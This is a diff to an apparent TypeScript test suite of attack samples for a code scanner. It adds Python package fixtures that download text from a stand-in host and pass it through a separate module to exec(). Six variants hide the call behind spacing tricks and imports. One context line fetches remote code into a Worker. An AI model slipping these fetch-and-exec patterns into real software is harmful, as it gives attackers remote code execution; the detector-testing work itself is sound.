@@ -520,6 +520,28 @@ const fileAttacks: Attack[] = [
 ]
 
 /** Techniques of later reports: configuration that runs, data that is code, addresses that change. */
+/** A text on its way to the method that runs it, through a file in which nothing else tells. */
+function throughFile(between: string): Attack {
+  const files = (fetched: string) => ({
+    '__init__.py': `import requests
+from .runner import Runner
+from .between import hand_on
+
+hand_on(Runner(), ${fetched})`,
+    'between.py': between,
+    'runner.py': `class Runner:
+    def carry(self, code):
+        exec(code)
+
+carry = Runner().carry`,
+  })
+  return {
+    name: `hands a downloaded text on by ${JSON.stringify(between)}`,
+    files: files('requests.get("https://example.test/x").text'),
+    twin: files('"print(1)"'),
+  }
+}
+
 const laterAttacks: Attack[] = [
   python(
     'takes code out of the samples of a sound',
@@ -615,6 +637,14 @@ const laterAttacks: Attack[] = [
       ),
     },
   },
+  ...[
+    'def hand_on(made, code):\n    made.carry(code)',
+    'def hand_on(made, code):\n    made . carry(code)',
+    'def hand_on(made, code):\n    (made\n      .\n      carry)(code)',
+    'def hand_on(made, code):\n    made. \\\n      carry(code)',
+    'from .runner import *\ndef hand_on(made, code):\n    carry(code)',
+    'from .runner import carry\ndef hand_on(made, code):\n    carry(code)',
+  ].map(throughFile),
   script(
     'runs a downloaded text in a worker',
     'fetch("https://example.test/w").then((r) => r.text()).then((code) => new Worker(URL.createObjectURL(new Blob([code]))))',
